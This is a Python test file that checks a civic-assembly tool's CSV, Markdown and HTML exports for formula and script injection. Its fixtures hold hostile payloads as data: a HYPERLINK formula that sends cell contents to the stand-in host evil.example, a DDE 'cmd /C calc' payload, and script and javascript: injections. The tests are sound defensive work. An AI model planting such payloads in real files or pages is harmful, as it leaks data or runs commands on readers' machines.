"""Every export and report is safe to open in a spreadsheet and to publish on a web page."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assembly.core.safe_output import md_link, md_text, spreadsheet_cell
from tests.imports.hostile import run

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SCRIPT = "<script>alert(1)</script>"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "+1"),
        ("+1+A1", "'+1+A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "\n'=1"),  # a bare CR becomes a line feed (issue 26)
        ("x;=1+1", "x;'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("x, -2+3", "x, '-2+3"),
        ("a|=cmd", "a|'=cmd"),
        ("-3", "-3"),
        ("-1.5", "-1.5"),
        ("Zoë Smith", "Zoë Smith"),
        (7, 7),
    ],
)
def test_spreadsheet_cells_are_neutralised(cell, safe) -> None:
    assert spreadsheet_cell(cell) == safe


def _live_formulas(text: str) -> list[str]:
    """Cells that a spreadsheet would run, whichever separator it splits on."""
    found = []
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            found += [c for c in row if c[:1] in ("=", "+", "@", "\t", "\r")]
            found += [c for c in row if c[:1] == "-" and not re.fullmatch(r"-[0-9.,]+%?", c)]
    return found


def _outside_code_blocks(markdown: str) -> str:
    parts = markdown.split("```")
    assert len(parts) % 2 == 1, "a code fence is left open"
    return "".join(parts[::2])


def test_markdown_text_cannot_carry_html_or_links() -> None:
    text = md_text(f"{SCRIPT} [x](javascript:alert(1)) | *b*")
    assert "<" not in text and "](" not in text.replace("\\](", "")
    assert "\\|" in text and "\\*b\\*" in text
    link = md_link('https://x.example/"><script>alert(1)</script>', "evidence")
    assert "<" not in link and '"' not in link and link.startswith("[evidence](https://")
    assert md_link("javascript:alert(1)", "x") == "x (javascript:alert(1))"


@pytest.fixture
def hostile_demo(demo_path: Path, tmp_path: Path) -> Path:
    """The example assembly with residents' text replaced by formula and script payloads."""
    with sqlite3.connect(demo_path) as conn:
        conn.execute("update respondents set name = ?, address = ?", [FORMULA, "1 Lane;=1+1"])
        conn.execute("update features set label = '@SUM(1+1)'")
        conn.execute("update topics set title = ?", [SCRIPT + " | x"])
        conn.execute("update ideas set text = ?", ["-2+3+cmd|' /C calc'!A0"])
    exported = tmp_path / "log.csv"
    assert run("log", "export", demo_path, "-o", exported).exit_code == 0
    rows = list(csv.DictReader(exported.open(encoding="utf-8")))
    rows[0]["evidence"] = 'https://x.example/"><script>alert(1)</script> Evidence'
    with exported.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerow(rows[0])
    result = run("log", "import", demo_path, exported, "--actor", "Officer")
    assert result.exit_code == 0, result.output
    return demo_path


def test_every_csv_export_is_neutralised(hostile_demo: Path, tmp_path: Path) -> None:
    invitations = tmp_path / "invitations.csv"
    profile = tmp_path / "profile.csv"
    assert run("members", "export-invitations", hostile_demo, invitations).exit_code == 0
    assert run("members", "export-profile", hostile_demo, profile).exit_code == 0
    outputs = {
        "invitations": invitations.read_text(encoding="utf-8"),
        "profile": profile.read_text(encoding="utf-8"),
        "tables": run("tables", "show", hostile_demo, "--format", "csv").output,
        "session": run("session", "export", hostile_demo, "1", "--format", "csv").output,
        "log": run("log", "report", hostile_demo, "--format", "csv").output,
    }
    for name, text in outputs.items():
        assert text.count("\n") > 1, (name, text)
        assert _live_formulas(text) == [], name
    assert "'=HYPERLINK" in outputs["invitations"] and "1 Lane;'=1+1" in outputs["invitations"]
    assert "'@SUM(1+1)" in outputs["profile"]
    assert invitations.stat().st_mode & 0o777 == 0o600


def test_markdown_and_html_reports_carry_no_live_html(hostile_demo: Path) -> None:
    reports = {
        "topics": run("topics", "report", hostile_demo).output,
        "tables": run("tables", "show", hostile_demo).output,
        "log-md": run("log", "report", hostile_demo, "--format", "md").output,
        "log-html": run("log", "report", hostile_demo, "--format", "html").output,
    }
    for name, text in reports.items():
        # Inside a fenced code block text is shown literally; elsewhere it must be escaped.
        assert "<script" not in _outside_code_blocks(text).lower(), name
    assert "&lt;script&gt;" in reports["topics"]
    assert "<https://" not in reports["log-md"]
    assert "[Evidence](https://x.example/%22%3E%3Cscript%3E" in reports["log-md"]


@pytest.mark.parametrize(
    "text", ["x;=1+1", "=A1", "a,\t-b|@c", "-3", "plain", "a; -2+3", "  =1", "'quoted"]
)
def test_the_log_import_reads_back_what_the_export_neutralised(text: str) -> None:
    from assembly.core.safe_output import undo_spreadsheet_cell

    assert undo_spreadsheet_cell(str(spreadsheet_cell(text))) == text


def test_exports_written_to_files_are_owner_only(demo_path: Path, tmp_path: Path) -> None:
    plan = tmp_path / "tables.md"
    report = tmp_path / "report.md"
    assert run("tables", "show", demo_path, "--output", plan).exit_code == 0
    assert run("log", "report", demo_path, "-o", report, "--with-names").exit_code == 0
    for written in (plan, report):
        assert written.stat().st_mode & 0o777 == 0o600, written


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n,;| a1.'\""), max_size=16))
def test_no_part_of_a_neutralised_cell_can_run(text: str) -> None:
    """Split at any separator a spreadsheet might use, with whitespace trimmed: no part starts
    a formula unless it is a plain number."""
    safe = str(spreadsheet_cell(text))
    for part in [*re.split(r"[,;|\t\r\n]", safe), safe]:
        trimmed = part.strip(" \t\r\n")
        if trimmed[:1] in ("=", "+", "-", "@"):
            assert re.fullmatch(r"[+-]?[0-9]+(?:[.,][0-9]+)*%?", part.strip()), (text, safe)
